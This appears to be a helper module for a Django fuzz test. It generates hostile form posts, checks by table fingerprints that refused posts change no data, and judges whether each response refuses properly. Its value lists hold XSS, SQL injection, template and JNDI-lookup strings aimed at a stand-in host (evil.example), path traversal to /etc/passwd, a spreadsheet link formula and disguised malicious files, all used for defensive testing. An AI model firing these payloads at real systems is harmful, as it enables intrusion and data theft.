"""Hostile form input for the fuzz test: which URLs take a POST, values that must be refused, and a fingerprint
of every table to prove a refused post changed nothing.

A post is built from a plausible value for every field of the form (so the one hostile value is what the view
has to catch, not a missing neighbour), with some fields swapped for hostile "noise" (scripts, SQL, control
characters, over-long text), a few made-up extra fields, and at least one "poison": a value that field must
refuse (over its length, NUL, not a number, an impossible date, a choice that is not offered, another site's id,
a required field left out, a file that is not what it claims).
"""

import datetime
import hashlib
import inspect
import io
import os
from dataclasses import dataclass, field as dataclass_field

from django import forms
from django.apps import apps
from django.db import connection
from django.contrib.messages import constants as message_levels
from django.contrib.messages import get_messages
from django.contrib.sessions.models import Session
from django.core.files.uploadedfile import SimpleUploadedFile
from django.forms.models import ModelChoiceField, ModelMultipleChoiceField
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from hypothesis import HealthCheck, Phase, settings, strategies as st
from PIL import Image

# CI runs a fixed, derandomised set; HYPOTHESIS_PROFILE=deep explores more and differently on each run.
# CI does not shrink a failing example (each one is a full request): the failure names the field and value.
settings.register_profile(
    "ci", max_examples=int(os.environ.get("FUZZ_EXAMPLES", "6")), derandomize=True, deadline=None, database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    phases=[Phase.explicit, Phase.generate],
)
settings.register_profile(
    "deep", max_examples=int(os.environ.get("FUZZ_EXAMPLES", "200")), derandomize=False, deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
FUZZ_SETTINGS = settings.get_profile(os.environ.get("HYPOTHESIS_PROFILE", "ci"))

# --- which URLs take a POST ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Route:
    name: str  # "namespace:name"
    pattern: str
    accepts_post: bool


def _accepts_post(callback) -> bool:
    view_class = getattr(callback, "view_class", None)
    if view_class is not None:
        return hasattr(view_class, "post") and "post" in view_class.http_method_names
    try:
        source = inspect.getsource(inspect.unwrap(callback))
    except (OSError, TypeError):
        return True  # cannot tell: treat as a form, so it needs an entry
    return "POST" in source


def _walk(patterns, prefix: str = "", namespace: str = ""):
    for entry in patterns:
        if isinstance(entry, URLResolver):
            inner = entry.namespace or namespace
            if namespace and entry.namespace:
                inner = f"{namespace}:{entry.namespace}"
            yield from _walk(entry.url_patterns, prefix + str(entry.pattern), inner)
        elif isinstance(entry, URLPattern):
            name = f"{namespace}:{entry.name}" if namespace else (entry.name or "")
            yield Route(name, prefix + str(entry.pattern), _accepts_post(entry.callback))


def project_routes() -> list[Route]:
    """Every named URL of the project. The Django admin is left out: its forms are Django's own, reached only
    by administrators and legal staff, and covered by Django's test suite."""
    return [route for route in _walk(get_resolver().url_patterns) if not route.pattern.startswith("admin/")]


# --- the database's fingerprint -----------------------------------------------------------------------------

# The session row changes with every request that stores a message; it holds no business data.
_IGNORED_MODELS = {Session}


def _tables(ignore: frozenset[str]) -> list[str]:
    tables = {
        model._meta.db_table for model in apps.get_models(include_auto_created=True)
        if model not in _IGNORED_MODELS and model._meta.managed and model._meta.db_table not in ignore
    }
    return sorted(tables)


def database_fingerprint(ignore: frozenset[str] = frozenset()) -> dict[str, str]:
    """A digest of every row of every table (model and many-to-many), by table name: one query on PostgreSQL."""
    tables = _tables(ignore)
    quote = connection.ops.quote_name
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute(" UNION ALL ".join(
                f"SELECT %s, md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) FROM {quote(table)} t"
                for table in tables), tables)
            return dict(cursor.fetchall())
        prints = {}
        for table in tables:
            cursor.execute(f"SELECT * FROM {quote(table)} ORDER BY rowid")
            prints[table] = hashlib.sha1(repr(cursor.fetchall()).encode()).hexdigest()
        return prints


def changed_tables(before: dict[str, str], after: dict[str, str]) -> list[str]:
    return sorted(table for table in before.keys() | after.keys() if before.get(table) != after.get(table))


# --- values ---------------------------------------------------------------------------------------------------

HOSTILE_TEXT = [
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "'; DROP TABLE incidents_incident; --",
    "' OR '1'='1' --",
    "1 UNION SELECT password FROM auth_user",
    "{{ request.user.password }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\x1b[2J\x07\x08\x0b\x0c\x7f",
    "\u202eevil\u200b\ufeff",
    "%s%s%n%x",
    "😀𠜎👍🏽" * 20,
    "=HYPERLINK(\"http://evil.example\")",
    "\r\nSet-Cookie: a=b",
    "NaN",
    "-1",
    "1e309",
    "[]",
    "{\"$gt\": \"\"}",
]
# Values no integer, decimal, date or choice field may accept.
NOT_A_NUMBER = ["abc", "1; DROP TABLE x", "<script>1</script>", "1,5.3.2", "0x1F", "", "NaN", "Infinity", "-Infinity",
                "1e999", "１２３abc", "\x00"]
BAD_DATES = ["2026-02-30", "2026-13-01", "31/12/2026", "99999-01-01", "0000-00-00", "yesterday", "2026-01-01'--",
             "\x00", "1e9", "2026-01-01T25:61"]
BAD_DATETIMES = ["2026-02-30T10:00", "2026-13-01T10:00", "2026-01-01T25:61", "not a time", "99999-01-01T00:00",
                 "0000-00-00 00:00", "\x00", "2026-01-01T10:00'; --"]
BAD_IDS = ["abc", "-1", "0", "1 OR 1=1", "99999999999999999999999", "1.5", "<script>", "\x00", "9223372036854775808"]


def hostile_text(max_size: int = 40):
    """Noise for any field: scripts, SQL, control characters, long or odd Unicode. It may or may not be valid."""
    characters = st.characters(codec="utf-8", exclude_categories=("Cs",))
    return st.one_of(
        st.sampled_from(HOSTILE_TEXT),
        st.text(characters, max_size=max_size),
        st.integers(min_value=300, max_value=20_000).map(lambda n: ("长" + "x<'\"" * n)[:n]),
    )


def jpeg_bytes(size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 40, 40)).save(out, "JPEG")
    return out.getvalue()


def good_photo(name: str = "photo.jpg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, jpeg_bytes(), content_type="image/jpeg")


BAD_FILES = [
    ("photo.jpg", b"<html><script>alert(1)</script></html>", "image/jpeg"),
    ("photo.jpg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/jpeg"),
    ("scan.pdf", b"MZ\x90\x00\x03\x00\x00\x00 this is an exe", "application/pdf"),
    ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "image/png"),
    ("photo.jpg", b"", "image/jpeg"),
    ("../../etc/passwd.jpg", b"GIF89a<script>alert(1)</script>", "image/gif"),
]


def bad_file(index: int) -> SimpleUploadedFile:
    name, content, content_type = BAD_FILES[index]
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- plausible values, noise and poison for one form field ----------------------------------------------------


def _first_choice(field) -> str | None:
    for value, _label in field.choices:
        if isinstance(_label, (list, tuple)):  # optgroup
            for inner, _inner_label in _label:
                return str(inner)
        if value not in ("", None):
            return str(getattr(value, "value", value))
    return None


def plausible(field: forms.Field, name: str):
    """A value the field accepts on its own (cross-field rules aside), or None to leave it out."""
    if isinstance(field, forms.BooleanField):
        return "on" if field.required else None
    if isinstance(field, ModelMultipleChoiceField):
        first = field.queryset.first()
        return [str(first.pk)] if first is not None and field.required else None
    if isinstance(field, ModelChoiceField):
        first = field.queryset.first()
        return str(first.pk) if first is not None else None
    if isinstance(field, forms.ChoiceField):
        return _first_choice(field)
    if isinstance(field, forms.EmailField):
        return "guest@example.com"
    if isinstance(field, forms.DateTimeField):
        return timezone.localtime(timezone.now() - datetime.timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M")
    if isinstance(field, forms.DateField):
        return (timezone.localdate() - datetime.timedelta(days=1)).isoformat()
    if isinstance(field, forms.IntegerField):
        return "1"
    if isinstance(field, forms.DecimalField):
        return "10.00"
    if isinstance(field, forms.FileField):
        return good_photo() if field.required else None
    if isinstance(field, forms.CharField):
        if isinstance(field.widget, forms.HiddenInput) and not field.required:
            return None
        text = f"Fuzz {name} 测试"
        return text[: field.max_length] if field.max_length else text
    return None


def noise(field: forms.Field):
    """A hostile value that the field may accept or refuse; it must never break the page."""
    if isinstance(field, forms.FileField):
        return st.sampled_from(range(len(BAD_FILES))).map(bad_file)
    return hostile_text()


def _outside(field: ModelChoiceField) -> list[str]:
    """Ids of rows of the field's model that the field does not offer: other sites' rows, inactive ones."""
    model = field.queryset.model
    offered = set(field.queryset.values_list("pk", flat=True))
    return [str(pk) for pk in model._base_manager.exclude(pk__in=offered).values_list("pk", flat=True)[:20]]


def poisons(field: forms.Field) -> list:
    """Strategies for values this field must refuse (empty when every value is acceptable)."""
    options = []
    if isinstance(field, forms.FileField):
        options.append(st.sampled_from(range(len(BAD_FILES))).map(bad_file))
        return options
    if isinstance(field, forms.BooleanField):
        return options
    if isinstance(field, ModelChoiceField):
        bad = BAD_IDS + _outside(field)
        value = st.sampled_from(bad)
        options.append(value.map(lambda v: [v]) if isinstance(field, ModelMultipleChoiceField) else value)
        return options
    if isinstance(field, forms.ChoiceField):
        offered = {str(getattr(value, "value", value)) for value, _label in field.choices}
        options.append(hostile_text().filter(lambda text: text not in offered and text.strip() != ""))
        return options
    if isinstance(field, forms.DateTimeField):
        options.append(st.sampled_from(BAD_DATETIMES))
        return options
    if isinstance(field, forms.DateField):
        options.append(st.sampled_from(BAD_DATES))
        return options
    if isinstance(field, (forms.IntegerField, forms.DecimalField)):
        bad = [value for value in NOT_A_NUMBER if value or field.required]
        bad += ["99999999999999999999999999", "1" + "0" * 40]
        if getattr(field, "min_value", None) is not None and field.min_value >= 0:
            bad += ["-1", "-99999999999"]
        if isinstance(field, forms.IntegerField) and not isinstance(field, forms.DecimalField):
            bad += ["1.5", "2147483648", "9223372036854775808"]
        else:
            bad += ["1.23456789"] if field.decimal_places is not None else []
        options.append(st.sampled_from(bad))
        return options
    if isinstance(field, forms.EmailField):
        options.append(st.sampled_from(["not-an-email", "<script>@x", "a@b@c", "guest@example.com\x00", "@" * 300]))
    if isinstance(field, forms.CharField):
        # NUL is refused by every CharField (Django's ProhibitNullCharactersValidator).
        options.append(hostile_text().map(lambda text: text[:20] + "\x00" + text[20:]))
        if field.max_length:
            limit = field.max_length
            options.append(st.integers(min_value=limit + 1, max_value=limit + 5000).map(lambda n: "x" * n))
    return options


# --- a whole post ------------------------------------------------------------------------------------------------


@dataclass
class FormShape:
    """The fields of one form as posted: key in the POST → field."""

    fields: dict[str, forms.Field]
    fixed: dict = dataclass_field(default_factory=dict)  # e.g. a formset's management form


def shape_of(*forms_: forms.Form, fixed: dict | None = None) -> FormShape:
    fields = {}
    for form in forms_:
        for name, form_field in form.fields.items():
            fields[form.add_prefix(name)] = form_field
    return FormShape(fields, dict(fixed or {}))


EXTRA_FIELD_NAMES = ["is_staff", "is_superuser", "site", "site_id", "owner_id", "status", "id", "pk", "created_by",
                     "__proto__", "next"]


def poisonable(shape: FormShape) -> list[str]:
    """The fields that can be given a value they must refuse (or left out when required)."""
    return [key for key in sorted(shape.fields) if poisons(shape.fields[key]) or shape.fields[key].required]


@st.composite
def hostile_post(draw, shape: FormShape, overrides: dict, raw_fields: tuple[str, ...] = (), poison_key: str = ""):
    """(data, poisoned field, poison value): a post with at least one value its field must refuse, in
    `poison_key` or a field drawn at random."""
    data: dict = {}
    for key, form_field in shape.fields.items():
        value = overrides.get(key, plausible(form_field, key))
        if value is not None:
            data[key] = value
    data.update(shape.fixed)
    # A browser always sends the CSRF token: a post is never empty.
    data["csrfmiddlewaretoken"] = draw(hostile_text(max_size=20))
    # Some fields get noise instead of their plausible value.
    keys = sorted(shape.fields)
    for key in draw(st.lists(st.sampled_from(keys), max_size=3, unique=True)) if keys else []:
        data[key] = draw(noise(shape.fields[key]))
    for key in raw_fields:
        if draw(st.booleans()):
            data[key] = draw(hostile_text())
    # Made-up fields a form must ignore.
    for key in draw(st.lists(st.sampled_from(EXTRA_FIELD_NAMES), max_size=2, unique=True)):
        data.setdefault(key, draw(hostile_text(max_size=20)))
    # The poison: a refused value, or a required field left out.
    key = poison_key or draw(st.sampled_from(poisonable(shape)))
    form_field = shape.fields[key]
    ways = poisons(form_field)
    if form_field.required and (not ways or draw(st.booleans())):
        data.pop(key, None)
        return data, key, "<missing>"
    value = draw(st.one_of(*ways))
    data[key] = value
    return data, key, value


# --- the answer ---------------------------------------------------------------------------------------------------


def _forms_in(response):
    contexts = response.context or []
    seen = []
    for context in contexts if isinstance(contexts, list) else [contexts]:
        for value in context.flatten().values() if hasattr(context, "flatten") else context.values():
            if isinstance(value, (forms.BaseForm, forms.BaseFormSet)) and value not in seen:
                seen.append(value)
    return seen


def _form_has_errors(form) -> bool:
    if isinstance(form, forms.BaseFormSet):
        return form.is_bound and (bool(form.non_form_errors()) or any(form.errors))
    return form.is_bound and bool(form.errors)


def error_messages(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request) if message.level >= message_levels.WARNING]


def refusal_problem(response, *, redirect_refuses: bool) -> str | None:
    """None when the answer refuses the post properly, else what is wrong with it."""
    status = response.status_code
    if status >= 500:
        return f"server error {status}"
    if status in (200, 400):
        if any(_form_has_errors(form) for form in _forms_in(response)) or error_messages(response):
            return None
        return f"{status} without a form error or an error message"
    if status in (301, 302, 303):
        if redirect_refuses and error_messages(response):
            return None
        return f"redirect to {response.get('Location')} (the post was taken)"
    if 400 <= status < 500:
        return None
    return f"unexpected status {status}"
